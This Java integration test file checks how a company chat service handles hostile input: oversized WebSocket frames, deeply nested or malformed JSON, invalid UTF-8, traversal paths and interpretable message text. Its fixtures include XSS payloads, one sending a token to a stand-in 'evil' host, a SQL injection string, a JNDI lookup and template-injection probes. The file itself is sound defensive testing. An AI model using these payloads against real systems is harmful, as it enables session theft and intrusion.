package com.companychat.it;

import static com.companychat.it.SocketClient.assertCloseCode;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.companychat.it.Fixture.Person;
import jakarta.json.JsonObject;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicLong;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Hostile input (RELIABILITY-CASES 1–3): frames and bodies that are too large, too deep,
 * malformed or not UTF-8, and message text built to be interpreted (HTML, script, control and
 * bidi characters). SocketIT and ChatIT hold the plain cases; here are the ones a parser or a
 * browser trips on.
 */
class InputAttackIT extends DeployedWar {
  static final int LIMIT = 64 * 1024;

  Person alice;
  Person bob;

  @BeforeEach
  void setUp() {
    long company = fixture.company();
    alice = fixture.employee(company);
    bob = fixture.employee(company);
  }

  @Test
  void aFrameAnnouncing200MBIsCutOffAfterABoundedAmountAndOthersGoOn() throws Exception {
    try (SocketClient b = SocketClient.connect(api, bob.token());
         RawSocket raw = RawSocket.open(api.base().getPort(), alice.token(), 65_536)) {
      b.settle();
      raw.sendHeaderOnly(0x1, 200L * 1024 * 1024);
      AtomicLong written = new AtomicLong();
      Thread writer = new Thread(() -> {
        byte[] chunk = new byte[16_384];
        try {
          // Paced so that the server keeps up: what was written is then what it has read.
          while (written.get() < 16_000_000) {
            raw.rawWrite(chunk);
            written.addAndGet(chunk.length);
            Thread.sleep(2);
          }
        } catch (IOException | InterruptedException closed) {
          // the server closed the connection: what this test waits for
        }
      });
      writer.start();
      int code = raw.awaitClose().closeCode();
      long atClose = written.get();
      writer.join(10_000);
      System.out.printf("InputAttack: 200 MB frame closed %d after %d bytes written%n", code, atClose);
      // FrameGuard refuses the frame at its header: 1009, never Tyrus's 1011 of a full buffer.
      assertEquals(1009, code, "closed " + code);
      assertTrue(atClose < 1_500_000, "the server read " + atClose + " bytes of a frame it can never accept");
      b.assertUsable();
    }
  }

  /** Issue 11 item 6: 1009 at every size over 64 KiB (Tyrus alone answered 1011 above its 256 KiB buffer). */
  @Test
  void framesOf65KiB300KiBAnd5MiBAllClose1009() throws Exception {
    for (int size : new int[] {65 * 1024, 300 * 1024, 5 * 1024 * 1024}) {
      try (RawSocket raw = RawSocket.open(api.base().getPort(), alice.token(), 65_536)) {
        raw.sendHeaderOnly(0x1, size);
        Thread writer = new Thread(() -> {
          byte[] chunk = new byte[16_384];
          java.util.Arrays.fill(chunk, (byte) 'x');
          try {
            for (int written = 0; written < size; written += chunk.length) {
              raw.rawWrite(chunk);
            }
          } catch (IOException closed) {
            // the server closed the connection before the frame was complete
          }
        });
        writer.start();
        assertEquals(1009, raw.awaitClose().closeCode(), "a frame of " + size + " bytes");
        writer.join(30_000);
      }
    }
    assertEquals(0, Fixture.countMessages("sender_id = " + alice.id()));
  }

  @Test
  void fragmentsAddingUpToMoreThan64KiBClose1009() throws Exception {
    byte[] piece = "x".repeat(30_000).getBytes(StandardCharsets.UTF_8);
    try (RawSocket raw = RawSocket.open(api.base().getPort(), alice.token(), 65_536)) {
      raw.sendFragment(false, 0x1, ("{\"type\":\"chat_message\",\"receiver_id\":" + bob.id() + ",\"message\":\"")
          .getBytes(StandardCharsets.UTF_8));
      raw.sendFragment(false, 0x0, piece);
      raw.sendFragment(false, 0x0, piece);
      raw.sendFragment(false, 0x0, piece);
      raw.sendFragment(true, 0x0, "\"}".getBytes(StandardCharsets.UTF_8));
      assertEquals(1009, raw.awaitClose().closeCode());
    }
    assertEquals(0, Fixture.countMessages("sender_id = " + alice.id()));
  }

  @Test
  void aChunkedBodyWithoutLengthIsCutOffAt64KiBWith413() {
    byte[] big = ("{\"receiver_id\":" + bob.id() + ",\"message\":\"" + "y".repeat(200_000) + "\"}")
        .getBytes(StandardCharsets.UTF_8);
    for (String path : new String[] {"api/chat/send/", "api/chat/mark-read/"}) {
      Api.Reply reply = api.send(api.request(path, alice.token()).header("Content-Type", "application/json")
          .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(big))));
      assertEquals(413, reply.status(), path + " " + reply);
      assertEquals("too_large", reply.error());
    }
    Api.Reply login = api.post("api/auth/login", null, "{\"username\":\"" + "u".repeat(LIMIT) + "\",\"password\":\"p\"}");
    assertEquals(413, login.status(), login::toString);
    assertEquals("too_large", login.error());
    assertEquals(0, Fixture.countMessages("sender_id = " + alice.id()));
  }

  @Test
  void deeplyNestedJsonIs400OverRestAndAnErrorEventOnTheSocket() throws Exception {
    List<String> deep = List.of("[".repeat(60_000), "{\"a\":".repeat(10_000), "[".repeat(30_000) + "]".repeat(30_000),
        "{\"type\":\"chat_message\",\"receiver_id\":" + bob.id() + ",\"message\":\"x\",\"extra\":"
            + "[".repeat(20_000) + "]".repeat(20_000) + "}");
    for (String body : deep) {
      for (String path : new String[] {"api/chat/send/", "api/chat/mark-read/", "api/auth/login"}) {
        Api.Reply reply = api.post(path, path.contains("auth") ? null : alice.token(), body);
        assertEquals(400, reply.status(), path + " " + reply);
        assertEquals("bad_request", reply.error());
      }
    }
    try (SocketClient socket = SocketClient.connect(api, alice.token())) {
      socket.settle();
      for (String frame : deep) {
        socket.send(frame);
        JsonObject error = socket.await("error");
        assertEquals("bad_request", error.getString("code"));
        socket.assertUsable();
      }
      socket.sendExpectingClose("[".repeat(100_000));
      assertCloseCode(1009, socket.awaitClose());
    }
    Api.Reply tooDeepAndTooLarge = api.post("api/chat/send/", alice.token(), "[".repeat(100_000));
    assertEquals(413, tooDeepAndTooLarge.status(), tooDeepAndTooLarge::toString);
    assertEquals(0, Fixture.countMessages("sender_id = " + alice.id()));
  }

  @Test
  void malformedAndHostileJsonIs400OverRestAndAnErrorEventOnTheSocket() throws Exception {
    Map<String, String> bodies = hostileJson();
    try (SocketClient socket = SocketClient.connect(api, alice.token())) {
      socket.settle();
      for (Map.Entry<String, String> body : bodies.entrySet()) {
        Api.Reply reply = api.post("api/chat/send/", alice.token(), body.getValue());
        assertEquals(400, reply.status(), body.getKey() + " -> " + reply);
        assertEquals("bad_request", reply.error(), body.getKey());
        socket.send(body.getValue().replace("{\"receiver_id\"", "{\"type\":\"chat_message\",\"receiver_id\""));
        JsonObject error = socket.await("error");
        assertEquals("bad_request", error.getString("code"), body.getKey());
        socket.assertUsable();
      }
    }
    assertEquals(0, Fixture.countMessages("sender_id = " + alice.id()));
  }

  @Test
  void invalidUtf8InARestBodyIs400AndNothingIsStored() {
    byte[][] bodies = {
        utf8Around(new byte[] {(byte) 0xC3, 0x28}),
        utf8Around(new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}),
        utf8Around(new byte[] {(byte) 0xC0, (byte) 0xAF}),
        utf8Around(new byte[] {(byte) 0xFF, (byte) 0xFE})};
    for (byte[] body : bodies) {
      Api.Reply reply = api.send(api.request("api/chat/send/", alice.token())
          .header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofByteArray(body)));
      assertEquals(400, reply.status(), reply::toString);
      assertEquals("bad_request", reply.error());
    }
    assertEquals(0, Fixture.countMessages("sender_id = " + alice.id()));
  }

  @Test
  void markupScriptAndControlCharactersAreStoredAndReturnedVerbatimAndEscaped() throws Exception {
    List<String> texts = hostileTexts();
    try (SocketClient a = SocketClient.connect(api, alice.token());
         SocketClient b = SocketClient.connect(api, bob.token())) {
      a.settle();
      b.settle();
      for (int i = 0; i < texts.size(); i++) {
        String text = texts.get(i);
        JsonObject ack;
        if (i % 2 == 0) {
          a.send(Api.json("type", "chat_message", "receiver_id", bob.id(), "message", text));
          ack = a.await("chat_message");
        } else {
          Api.Reply sent = api.post("api/chat/send/", alice.token(), Api.json("receiver_id", bob.id(), "message", text));
          assertEquals(201, sent.status(), sent::toString);
          assertNoRawControlCharacters(sent.raw().body());
          ack = a.await("chat_message");
        }
        assertEquals(text, ack.getString("message"), "echo of #" + i);
        assertEquals(text, b.await("chat_message").getString("message"), "delivery of #" + i);
        assertEquals(text, Fixture.storedText(ack.getJsonNumber("message_id").longValue()), "row of #" + i);
      }
    }
    Api.Reply conversation = api.get("api/chat/conversation/" + alice.id() + "/?limit=200", bob.token());
    assertEquals(texts, conversation.array().getValuesAs(JsonObject.class).stream()
        .map(m -> m.getString("message")).toList());
    assertNoRawControlCharacters(conversation.raw().body());
    assertTrue(conversation.header("Content-Type").orElse("").startsWith("application/json"));
    assertEquals("nosniff", conversation.header("X-Content-Type-Options").orElse(""),
        "a browser must never sniff stored markup into HTML");
  }

  @Test
  void hostileQueryStringsAndPathsAre4xxWithTheErrorBody() {
    List<String> paths = List.of(
        "api/chat/users/?q=%00", "api/chat/users/?q=" + "%25_".repeat(500), "api/chat/users/?q=%FF%FE",
        "api/chat/conversation/" + bob.id() + "/?limit=99999999999999999999",
        "api/chat/conversation/" + bob.id() + "/?before=-1e9", "api/chat/conversation/" + bob.id() + "/?limit=-1",
        "api/chat/conversation/99999999999999999999", "api/chat/conversation/1e3",
        "api/chat/conversation/..%2F..%2Fadmin%2Fcompanies", "api/chat/messages/?after=abc",
        "api/chat/messages/?after=9223372036854775808", "api/chat/messages/?after=1&after=2&limit=0",
        "api/admin/users/99999999999999999999", "api/chat/%2e%2e/admin/companies");
    for (String path : paths) {
      Api.Reply reply = api.get(path, alice.token());
      assertTrue(reply.status() >= 200 && reply.status() < 500, path + " -> " + reply);
      if (reply.status() >= 400) {
        assertEquals(jakarta.json.JsonValue.ValueType.OBJECT, reply.body().getValueType(),
            path + " -> " + reply.status() + " without the error body " + reply.raw().headers().map());
        assertFalse(reply.error().isBlank(), path);
      } else {
        assertFalse(reply.raw().body().contains("\"error\""), path);
      }
    }
    // Refused by Payara's HTTP layer before the application: 400, with no body of ours.
    for (String path : new String[] {"api/chat/conversation/%00", "api/chat/users/?q=" + "x".repeat(9_000)}) {
      assertEquals(400, api.get(path, alice.token()).status(), path);
    }
    Api.Reply users = api.get("api/chat/users/?q=" + "%25_".repeat(500), alice.token());
    assertEquals(200, users.status(), "a long filter of LIKE wildcards matches nobody: " + users);
    assertEquals(0, users.array().size());
  }

  private Map<String, String> hostileJson() {
    long b = bob.id();
    Map<String, String> bodies = new LinkedHashMap<>();
    bodies.put("2000-digit receiver", "{\"receiver_id\":" + "9".repeat(2_000) + ",\"message\":\"x\"}");
    bodies.put("exponent 1e999999999", "{\"receiver_id\":1e999999999,\"message\":\"x\"}");
    bodies.put("exponent -1e-999999999", "{\"receiver_id\":-1e-999999999,\"message\":\"x\"}");
    bodies.put("receiver 1.0", "{\"receiver_id\":" + b + ".0,\"message\":\"x\"}");
    bodies.put("receiver Long.MAX + 1", "{\"receiver_id\":9223372036854775808,\"message\":\"x\"}");
    bodies.put("receiver NaN", "{\"receiver_id\":NaN,\"message\":\"x\"}");
    bodies.put("receiver Infinity", "{\"receiver_id\":Infinity,\"message\":\"x\"}");
    bodies.put("receiver hex", "{\"receiver_id\":0x10,\"message\":\"x\"}");
    bodies.put("receiver leading zero", "{\"receiver_id\":0" + b + ",\"message\":\"x\"}");
    bodies.put("receiver true", "{\"receiver_id\":true,\"message\":\"x\"}");
    bodies.put("receiver object", "{\"receiver_id\":{\"id\":" + b + "},\"message\":\"x\"}");
    bodies.put("message array", "{\"receiver_id\":" + b + ",\"message\":[\"x\"]}");
    bodies.put("message object", "{\"receiver_id\":" + b + ",\"message\":{\"$gt\":\"\"}}");
    bodies.put("client_msg_id number", "{\"receiver_id\":" + b + ",\"message\":\"x\",\"client_msg_id\":7}");
    bodies.put("client_msg_id control", "{\"receiver_id\":" + b + ",\"message\":\"x\",\"client_msg_id\":\"a\\nb\"}");
    bodies.put("trailing garbage", "{\"receiver_id\":" + b + ",\"message\":\"x\"} trailing");
    bodies.put("two documents", "{\"receiver_id\":" + b + ",\"message\":\"x\"}{\"receiver_id\":" + b + "}");
    bodies.put("single quotes", "{'receiver_id':" + b + ",'message':'x'}");
    bodies.put("comment", "{\"receiver_id\":" + b + ",/* c */\"message\":\"x\"}");
    bodies.put("unterminated string", "{\"receiver_id\":" + b + ",\"message\":\"x}");
    bodies.put("unpaired surrogate escape", "{\"receiver_id\":" + b + ",\"message\":\"a\\udc00b\"}");
    bodies.put("NUL escape", "{\"receiver_id\":" + b + ",\"message\":\"\\u0000\"}");
    bodies.put("bad escape", "{\"receiver_id\":" + b + ",\"message\":\"\\x41\"}");
    bodies.put("raw control in string", "{\"receiver_id\":" + b + ",\"message\":\"a\u0001b\"}");
    bodies.put("JSON string", "\"{\\\"receiver_id\\\":" + b + "}\"");
    bodies.put("only whitespace", " \t\r\n ");
    return bodies;
  }

  private static List<String> hostileTexts() {
    return List.of(
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(document.cookie)>",
        "</script><script>fetch('//evil/'+localStorage.token)</script>",
        "<a href=\"javascript:alert(1)\">click</a> &amp; &lt;b&gt; &#x3C;",
        "\u0001\u0002\u0007\b\f\u000b\u001b[31mred\u001b[0m\u007f\u0085",
        "line1\r\nline2\rline3\n\u2028\u2029",
        "\u200B\u200C\u200D\uFEFF\u2060 invisible",
        "\u202Egnp.exe\u202C \u2066isolate\u2069 \u200F",
        "'; DROP TABLE chat_message; -- \" OR 1=1 --",
        "${jndi:ldap://127.0.0.1:1389/a} %s%n%x {{7*7}} #{7*7}",
        "\\\"}],\"message_id\":1,\"x\":[{\"",
        "Z\u0338\u0322\u034Ea\u0327\u0355l\u0335g\u0336o \uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67 \uDBFF\uDFFF \uFFFF \uFFFE",
        "\uD83D\uDE00".repeat(4_000));
  }

  /** A send to bob, valid but for the bytes in the middle of its text. */
  private byte[] utf8Around(byte[] invalid) {
    ByteArrayOutputStream body = new ByteArrayOutputStream();
    body.writeBytes(("{\"receiver_id\":" + bob.id() + ",\"message\":\"a").getBytes(StandardCharsets.UTF_8));
    body.writeBytes(invalid);
    body.writeBytes("b\"}".getBytes(StandardCharsets.UTF_8));
    return body.toByteArray();
  }

  private static void assertNoRawControlCharacters(String json) {
    assertTrue(json.chars().noneMatch(c -> c < 0x20), "JSON escapes every control character: " + json);
  }
}
